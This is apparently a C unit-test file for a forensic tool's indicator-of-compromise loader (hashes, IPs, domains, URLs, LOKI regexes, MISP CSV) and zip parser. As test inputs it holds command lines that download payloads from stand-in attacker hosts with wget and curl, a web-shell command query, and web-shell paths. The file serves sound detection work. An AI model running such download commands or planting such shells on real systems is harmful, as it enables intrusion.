/* test_iocset.c: indicator lists (src/detect/iocset.c) and zip names. */
#include "exh/hash.h"
#include "exh/iocset.h"
#include "exh/zip.h"
#include "t.h"

static bool load(struct exh_iocset *s, const char *text, struct exh_ioc_load_stats *st)
{
    bool ok = exh_iocset_load(s, "test-list", (const uint8_t *)text, strlen(text), st, NULL, NULL);
    exh_iocset_prepare(s);
    return ok;
}

static void digest(const char *hex, uint8_t *d)
{
    for (size_t i = 0; i < strlen(hex) / 2; i++) {
        unsigned v;
        sscanf(hex + 2 * i, "%2x", &v);
        d[i] = (uint8_t)v;
    }
}

static void test_formats(void)
{
    struct exh_iocset *s = exh_iocset_new(false);
    struct exh_ioc_load_stats st;
    CHECK(load(s,
               "# a comment\n"
               "d41d8cd98f00b204e9800998ecf8427e\n"                                    /* md5 */
               "da39a3ee5e6b4b0d3255bfef95601890afd80709;empty file\n"                 /* sha1 */
               "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855, x\n" /* sha256 */
               "198.51.100.7\n"
               "2001:db8::7\n"
               "203.0.113.0/24\n"
               "999.1.1.1\n"
               "C:\\inetpub\\wwwroot\\custom\\x.aspx\n"
               "evil-c2.example\n"
               "hxxp://dl.evil-c2[.]example/a.ps1\n"
               "shell_x.aspx\n"
               "Evil Agent/1.0 (test)\n"
               "this is just words\n"
               "\x01\x02\n",
               &st));
    CHECK_EQ_INT(st.format, EXH_IOCF_LIST);
    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 3);
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 3);
    CHECK_EQ_INT(st.loaded[EXH_IOC_PATH], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_URL], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_UA], 1);
    CHECK_EQ_INT(st.bad, 3); /* 999.1.1.1, words, binary */
    uint8_t d[32];
    exh_sha256((const uint8_t *)"", 0, d);
    const struct exh_ioc_meta *m = exh_iocset_hash(s, d, 32);
    CHECK(m && !strcmp(m->feed, "test-list") && m->note && !strcmp(m->note, "x"));
    d[0] ^= 1;
    CHECK(exh_iocset_hash(s, d, 32) == NULL);
    CHECK(exh_iocset_hash(s, d, 7) == NULL);
    CHECK(exh_iocset_path(s, "mnt/c/INETPUB/wwwroot/Custom/X.aspx") != NULL);
    CHECK(exh_iocset_path(s, "inetpub\\wwwroot\\custom\\x.aspx") != NULL);
    CHECK(exh_iocset_path(s, "inetpub/wwwroot/custom/xx.aspx") == NULL);
    CHECK(exh_iocset_path(s, "other/inetpub/wwwroot/custom/x.aspx.bak") == NULL);
    CHECK(exh_iocset_name(s, EXH_LIT("SHELL_X.aspx")) != NULL);
    CHECK(exh_iocset_name(s, EXH_LIT("shell_x.aspx.bak")) == NULL);
    /* addresses: one, a range, IPv6; as logged with a port or mapped */
    struct exh_ip ip;
    CHECK(exh_ip_parse(EXH_LIT("198.51.100.7"), &ip) && exh_iocset_ip(s, &ip));
    CHECK(exh_ip_parse(EXH_LIT("::ffff:198.51.100.7"), &ip) && exh_iocset_ip(s, &ip));
    CHECK(exh_ip_parse(EXH_LIT("203.0.113.77:443"), &ip) && exh_iocset_ip(s, &ip));
    CHECK(exh_ip_parse(EXH_LIT("2001:db8:0::7"), &ip) && exh_iocset_ip(s, &ip));
    CHECK(exh_ip_parse(EXH_LIT("198.51.100.8"), &ip) && !exh_iocset_ip(s, &ip));
    CHECK(exh_ip_parse(EXH_LIT("203.0.114.1"), &ip) && !exh_iocset_ip(s, &ip));
    /* user agents: the field starts with it, spaces or '+' */
    CHECK(exh_iocset_ua(s, EXH_LIT("Evil+Agent/1.0+(test)+more"), false) != NULL);
    CHECK(exh_iocset_ua(s, EXH_LIT("Mozilla/5.0 Evil Agent/1.0 (test)"), false) == NULL);
    /* domains stand alone; URLs whole, refanged */
    size_t at, len;
    const char *t = "/x.aspx?cmd=ping sub.EVIL-C2.example -n 1";
    CHECK((m = exh_iocset_web(s, t, strlen(t), &at, &len)) && m->type == EXH_IOC_DOMAIN);
    CHECK_EQ_INT(at, 21);
    t = "ping notevil-c2.example; evil-c2.example.org; evil-c2.examples";
    CHECK(exh_iocset_web(s, t, strlen(t), &at, &len) == NULL);
    t = "wget http://dl.evil-c2.example/a.ps1 -o x";
    CHECK((m = exh_iocset_web(s, t, strlen(t), &at, &len)) && m->type == EXH_IOC_URL);
    CHECK_EQ_INT(at, 5);
    CHECK_EQ_INT(len, 31);
    /* the pre-filter needles hold each address, agent and domain */
    const char *const *nd;
    size_t nn = exh_iocset_line_needles(s, &nd);
    bool range = false;
    for (size_t i = 0; i < nn; i++)
        range |= !strcmp(nd[i], "203.0.113.");
    CHECK(range);
    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
    CHECK(!exh_iocset_line_may_match(s, "nothing here", 12));
    exh_iocset_free(s);
}

static void test_review(void)
{
    struct exh_iocset *s = exh_iocset_new(true);
    struct exh_ioc_load_stats st;
    /* a URL without a path stands alone; a URL's host is its needle, so a
     * percent-encoded URL is selected and found once decoded */
    CHECK(load(s,
               "http://c2host.example\nhttp://evil.example/payload/x.exe\n"
               "2001:db8:0:0:1::/80\npython-requests/2.25.1\n",
               &st));
    size_t at, len;
    const char *t = "get http://c2host.example.attacker.net/ and http://c2host.example/";
    const struct exh_ioc_meta *m = exh_iocset_web(s, t, strlen(t), &at, &len);
    CHECK(m && at == 44);
    t = "curl -o a.exe http://evil.example/payload/x.exe";
    CHECK(exh_iocset_web(s, t, strlen(t), &at, &len) != NULL);
    t = "cmd=curl+-o+a.exe+http%3A%2F%2Fevil.example%2Fpayload%2Fx.exe";
    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
    /* an IPv6 range whose members write its zero groups as "::" */
    t = "2021-03-03 10.0.0.1 GET / - 443 - 2001:db8::1:0:0:5 x";
    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
    struct exh_ip ip;
    CHECK(exh_ip_parse(EXH_LIT("2001:db8::1:0:0:5"), &ip) && exh_iocset_ip(s, &ip));
    /* a built-in agent that counts on POST only does not hide a listed one */
    CHECK((m = exh_iocset_ua(s, EXH_LIT("python-requests/2.25.1"), false)) &&
          !strcmp(m->feed, "test-list"));
    CHECK((m = exh_iocset_ua(s, EXH_LIT("python-requests/2.25.1"), true)) != NULL);
    exh_iocset_free(s);
    /* a list whose first entry looks like JSON, XML or YAML is still a list */
    s = exh_iocset_new(false);
    CHECK(load(s, "[a-z]{8}\\.aspx;60\nevil.example\n", &st));
    CHECK_EQ_INT(st.format, EXH_IOCF_LIST);
    CHECK_EQ_INT(st.loaded[EXH_IOC_REGEX], 1);
    CHECK(load(s, "<install path>\\FrontEnd\\x.aspx\n198.51.100.1\n", &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK(load(s, "Note: campaign X\n198.51.100.1\n", &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK(!load(s, "{\"type\":\"bundle\",\n\"198.51.100.1\"\n", &st)); /* broken JSON */
    exh_iocset_free(s);
}

static void test_refusals(void)
{
    struct exh_iocset *s = exh_iocset_new(false);
    struct exh_ioc_load_stats st;
    /* nothing understood: refused, nothing kept */
    CHECK(!load(s, "Response.Write(\"x\")\nwhat is this\n", &st));
    CHECK_EQ_INT(st.bad, 2);
    CHECK(strstr(st.err, "nothing in it") != NULL);
    CHECK(!load(s, "", &st));
    CHECK(!load(s, "# only comments\n\n", &st));
    CHECK_EQ_INT(exh_iocset_nfeeds(s), 0);
    /* folders only: understood, nothing to match, not refused */
    CHECK(load(s, "C:\\inetpub\\wwwroot\\aspnet_client\\\n", &st));
    CHECK_EQ_INT(st.unused, 1);
    /* a range too wide to look for */
    CHECK(!load(s, "10.0.0.0/8\n", &st));
    CHECK_EQ_INT(exh_iocset_nfeeds(s), 1);
    /* a line over the limit, and invalid UTF-8, are entries not understood */
    char *big = malloc(EXH_IOC_LINE_MAX + 64);
    memset(big, 'a', EXH_IOC_LINE_MAX + 10);
    strcpy(big + EXH_IOC_LINE_MAX + 10, "\n198.51.100.1\n\xff\xfe\xfd.example\n");
    CHECK(load(s, big, &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK_EQ_INT(st.bad, 2);
    free(big);
    exh_iocset_free(s);
}

static void test_loki(void)
{
    struct exh_iocset *s = exh_iocset_new(false);
    struct exh_ioc_load_stats st;
    CHECK(load(s,
               "# LOKI filename iocs\n"
               "\\\\aspnet_client\\\\[^\\\\]+\\.aspx;80\n"
               "(?i)\\\\procdump(64)?\\.exe;50;(?i)sysinternals\\\\\n"
               "\\\\x\\.(exe|dll);60\n"
               "\\\\bad(regex;70\n",
               &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_REGEX], 3);
    CHECK_EQ_INT(st.bad, 1); /* does not compile */
    struct exh_buf w = {0};
    exh_iocset_winpath("mnt/evidence/inetpub/wwwroot/aspnet_client/x1.aspx", &w);
    CHECK_EQ_STR(w.p, "C:\\inetpub\\wwwroot\\aspnet_client\\x1.aspx");
    const struct exh_ioc_meta *m = exh_iocset_regex(s, w.p, w.n);
    CHECK(m && m->score == 80);
    exh_iocset_winpath("Users/admin/Downloads/PROCDUMP64.EXE", &w);
    CHECK((m = exh_iocset_regex(s, w.p, w.n)) && m->score == 50);
    exh_iocset_winpath("Users/admin/SysInternals/procdump.exe", &w);
    CHECK(exh_iocset_regex(s, w.p, w.n) == NULL); /* the false-positive regex */
    exh_iocset_winpath("C:\\tools\\x.dll", &w);
    CHECK(exh_iocset_regex(s, w.p, w.n) != NULL); /* no literal: always tried */
    exh_iocset_winpath("inetpub/wwwroot/aspnet_client/sub/x1.aspx", &w);
    CHECK(exh_iocset_regex(s, w.p, w.n) == NULL);
    /* escapes and flags that hide or change literals: the regex is still
     * tried (a literal taken from "\x41", "\d{2}" or an (?x) blank would
     * keep it from ever running) */
    static const char *const rx[][2] = {
        {"\\\\x\\x41bc\\.exe;80", "C:\\x\\xAbc.exe"},
        {"(?ix)\\\\ev il\\.exe;80", "C:\\a\\EVIL.exe"},
        {"\\\\p\\d{2}xyz\\.dll;80", "C:\\t\\p12xyz.dll"},
        {"\\\\(?-i:Q)\\Qa.b\\E;80", "C:\\Qa.b"},
        {"\\\\qq[^]abcdefghij]zz\\.aspx;70", "C:\\inetpub\\qqxzz.aspx"}};
    for (size_t i = 0; i < sizeof(rx) / sizeof(rx[0]); i++) {
        struct exh_iocset *r = exh_iocset_new(false);
        T_CTX(rx[i][0]);
        CHECK(load(r, rx[i][0], &st));
        CHECK(exh_iocset_regex(r, rx[i][1], strlen(rx[i][1])) != NULL);
        exh_iocset_free(r);
    }
    T_CTX(NULL);
    exh_buf_release(&w);
    /* c2-iocs with and without scores, hash-iocs with comments */
    CHECK(load(s, "evil.example\n198.51.100.9;65\nc2.evil.example;80\n", &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 2);
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK(load(s, "d41d8cd98f00b204e9800998ecf8427e;Empty file\n", &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
    exh_iocset_free(s);
}

static void test_csv(void)
{
    struct exh_iocset *s = exh_iocset_new(false);
    struct exh_ioc_load_stats st;
    CHECK(load(s,
               "DateAdded,FirstSeen,Indicator,IndicatorType,TLP\n"
               "2021-03-09,,C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx,filepath,White\n"
               "2021-03-09,,e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,"
               "sha256,White\n"
               "2021-03-09,,evil.example,domainname,White\n"
               "2021-03-09,,x.aspx,filepath,White\n"
               "short\n",
               &st));
    CHECK_EQ_INT(st.format, EXH_IOCF_CSV);
    CHECK_EQ_INT(st.loaded[EXH_IOC_PATH], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1); /* a "filepath" without a folder */
    CHECK_EQ_INT(st.bad, 1);
    CHECK(exh_iocset_path(s, "x/inetpub/wwwroot/aspnet_client/A.ASPX") != NULL);
    exh_iocset_free(s);
    s = exh_iocset_new(false);
    CHECK(load(s,
               "Type, Data, Note\nIPV4,203.0.113.9,c2\nMD5,d41d8cd98f00b204e9800998ecf8427e,x\n"
               "STRING,gold8899,param\n",
               &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
    CHECK_EQ_INT(st.unused, 1);
    /* MISP's CSV export: composites, to_ids */
    CHECK(load(s,
               "uuid,event_id,category,type,value,comment,to_ids,date,object_relation\n"
               "u1,1,Network activity,ip-dst|port,198.51.100.3|443,c2,1,1614556800,\n"
               "u2,1,Payload delivery,filename|sha256,x.aspx|"
               "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,,1,1,\n"
               "u3,1,Network activity,domain,evil.example,,0,1,\n"
               "u4,1,Persistence mechanism,regkey,HKLM\\\\x,,1,1,\n",
               &st));
    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 0); /* the name only qualifies the hash */
    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
    CHECK_EQ_INT(st.unused, 3); /* the name; to_ids off; regkey */
    exh_iocset_free(s);
}

static void test_builtin(void)
{
    struct exh_iocset *s = exh_iocset_new(true);
    exh_iocset_prepare(s);
    CHECK(exh_iocset_has_hashes(s));
    CHECK(exh_iocset_count(s, EXH_IOC_IP) >= 15);
    CHECK(exh_iocset_count(s, EXH_IOC_UA) >= 10);
    CHECK_EQ_INT(exh_iocset_nfeeds(s), 1);
    CHECK(exh_iocset_feed(s, 0)->builtin);
    /* a published path, under any mount point and case */
    CHECK(exh_iocset_path(s, "mnt/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/"
                             "owa/auth/8Lw7tAhF9i1pJnRo.aspx") != NULL);
    CHECK(exh_iocset_path(s, "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/"
                             "owa/auth/logon.aspx") == NULL);
    /* a published SHA-256 (MSTIC list) */
    uint8_t d[32];
    digest("b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0", d);
    const struct exh_ioc_meta *m = exh_iocset_hash(s, d, 32);
    CHECK(m && !strcmp(m->feed, "built-in") && m->title);
    exh_iocset_free(s);
}

static void collect(void *ud, const char *name, size_t len)
{
    char *out = ud;
    size_t k = strlen(out);
    snprintf(out + k, 256 - k, "%s%.*s", k ? "," : "", (int)len, name);
}

static void test_zip(void)
{
    /* a stored zip with two members, built by hand: local headers, central
     * directory, end record */
    static const uint8_t z[] = {
        'P', 'K', 3,  4, 10, 0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0, 0,
        0,   0,   0,  0, 0,  0,   0,   0,   1,   0,   0,   0,   'a', 'P', 'K', 1,   2, 20,
        0,   10,  0,  0, 0,  0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0, 0,
        0,   0,   0,  0, 0,  9,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0, 0,
        0,   0,   0,  0, 0,  'l', 's', 'a', 's', 's', '.', 'd', 'm', 'p', 'P', 'K', 1, 2,
        20,  0,   10, 0, 0,  0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0, 0,
        0,   0,   0,  0, 0,  0,   5,   0,   0,   0,   0,   0,   0,   0,   0,   0,   0, 0,
        0,   0,   0,  0, 0,  0,   'x', '/', 'b', '.', 'c', 'P', 'K', 5,   6,   0,   0, 0,
        0,   2,   0,  2, 0,  106, 0,   0,   0,   31,  0,   0,   0,   0,   0};
    char names[256] = "";
    struct exh_zip_dir d;
    CHECK(exh_zip_dir(z, sizeof(z), &d));
    CHECK_EQ_INT(d.code, EXH_OK);
    for (size_t i = 0; i < d.n; i++)
        collect(names, (const char *)d.e[i].name, d.e[i].name_len);
    CHECK_EQ_INT(d.n, 2);
    CHECK_EQ_STR(names, "lsass.dmp,x/b.c");
    exh_zip_dir_release(&d);
    /* every truncation is safe: the directory, or the members' own headers */
    for (size_t n = 0; n < sizeof(z); n++)
        if (exh_zip_dir(z, n, &d)) {
            CHECK(d.n <= 2);
            exh_zip_dir_release(&d);
        }
    /* a directory that points past the end: said, and the local headers walked */
    uint8_t bad[sizeof(z)];
    memcpy(bad, z, sizeof(z));
    bad[sizeof(z) - 6] = 0xF0;
    CHECK(exh_zip_dir(bad, sizeof(bad), &d));
    CHECK_EQ_INT(d.code, EXH_ERR_CORRUPT);
    CHECK(d.no_directory);
    exh_zip_dir_release(&d);
}

int main(void)
{
    T_RUN(test_formats);
    T_RUN(test_refusals);
    T_RUN(test_review);
    T_RUN(test_loki);
    T_RUN(test_csv);
    T_RUN(test_builtin);
    T_RUN(test_zip);
    return T_DONE("unit-iocset");
}
